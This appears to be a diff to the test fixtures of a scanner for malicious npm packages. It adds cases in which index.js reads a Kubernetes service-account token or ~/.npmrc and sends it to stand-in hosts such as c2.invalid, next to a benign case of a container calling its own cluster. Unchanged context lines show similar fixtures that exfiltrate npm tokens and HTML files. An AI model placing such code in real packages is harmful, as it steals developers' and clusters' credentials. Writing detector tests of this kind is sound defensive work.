@@ -57,6 +57,20 @@ for (const file of require('fast-glob').sync(['**/.git-credentials'], { cwd: req
       },
     },
     {
+      when: 'a container’s token goes to a host that is called like a cluster',
+      files: {
+        'index.js': `const token = require('fs').readFileSync('/var/run/secrets/kubernetes.io/serviceaccount/token', 'utf8'); fetch('https://kubernetes.default.svc.invalid.c2.invalid/', { headers: { authorization: token } })`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'what many tools read goes to an address that is not known',
+      files: {
+        'index.js': `fetch(hidden(), { method: 'POST', body: require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8') })`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'the npm token goes out at import',
       files: {
         'index.js': `const t = require('fs').readFileSync(require('path').join(require('os').homedir(), '.npmrc'), 'utf8'); fetch('https://c2.invalid/', { method: 'POST', body: t })`,
@@ -109,6 +123,12 @@ exports.token = () => execSync('gh auth token').toString();`,
       files: {
         'index.js': `const fs = require('fs'), path = require('path'), os = require('os');
 for (const name of fs.readdirSync(__dirname)) if (name.endsWith('.html')) fetch('https://sink.invalid/', { method: 'POST', body: fs.readFileSync(path.join(__dirname, name)) });`,
+      },
+    },
+    {
+      when: 'a container asks its own cluster',
+      files: {
+        'index.js': `const token = require('fs').readFileSync('/var/run/secrets/kubernetes.io/serviceaccount/token', 'utf8'); exports.ask = () => fetch('https://kubernetes.default.svc/api', { headers: { authorization: 'Bearer ' + token } })`,
       },
     },
     {
